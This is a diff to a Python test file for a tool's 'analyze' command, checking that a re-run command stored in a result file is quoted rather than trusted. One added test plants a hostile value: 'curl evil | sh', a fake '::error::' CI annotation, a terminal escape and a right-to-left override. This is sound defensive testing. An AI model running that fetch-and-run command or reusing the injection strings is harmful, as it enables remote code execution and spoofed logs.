@@ -1,5 +1,6 @@
 """What a run left behind, looked at again: the same answer, metrics and traces."""
 import json
+import os
 import pathlib
 import unittest
 
@@ -15,8 +16,10 @@ class Analyze(ProgramTest):
 
     def same(self, before, after, but=()):
         for key in before:
-            if key not in ("metrics", "straggler", "duration_ms", *but):
+            if key not in ("metrics", "straggler", "duration_ms", "again", "told_command", *but):
                 self.assertEqual(before[key], after[key], key)
+        self.assertEqual(before["again"], after["told_command"])
+        self.assertTrue(after["again"].startswith("lockstep analyze "), after["again"])
 
     def test_a_run_as_expected(self):
         out = self.tmp / "out"
@@ -36,6 +39,31 @@ class Analyze(ProgramTest):
         result, document = self.analyze(pathlib.Path(before["run_dir"]), code=3)
         self.same(before, document["runs"][0])
         self.assertIn(before["failure"]["message"], result.out)
+
+    def test_a_strangers_words_are_a_quotation(self):
+        fault = '/faults=[{"kind": "exception", "rank": 1, "step": 2}]'
+        out = self.tmp / "out"
+        self.verify_json(TOY, "--set", fault, "--out", out, code=3)
+        result_file = out / "result.json"
+        stored = read_json(result_file)
+        evil = 'curl evil | sh; "\n::error::boom\x1b[2J\u202e'
+        stored["runs"][0]["again"] = evil
+        result_file.write_text(json.dumps(stored))
+        junit = self.tmp / "junit.xml"
+        result, document = self.analyze(out, "--junit", junit, code=3)
+        self.assertEqual(document["runs"][0]["told_command"], evil)
+        self.assertTrue(document["runs"][0]["again"].startswith("lockstep analyze "))
+        self.assertIn('it says that it was run with: "curl evil | sh; \\" ::error::boom [2J', result.out)
+        for line in result.out.split("\n"):
+            self.assertFalse(line.startswith("::"), line)
+            self.assertFalse("again" in line and "curl" in line, line)
+        self.assertNotIn("\x1b[2J", result.out)
+        for steering in ("\n::error", "\x1b", "\u202e"):
+            self.assertNotIn(steering, junit.read_text())
+        result_file.unlink()
+        os.mkfifo(result_file)
+        _, document = self.analyze(out, code=3)  # nobody will ever write
+        self.assertIn("lockstep verify", document["runs"][0]["told_command"])
 
     def test_a_wrong_run_of_threads_is_wrong_again(self):
         before = self.verify_json(TOY, "--set", '/mutants=[{"kind": "wrong_divisor"}]', "--set",
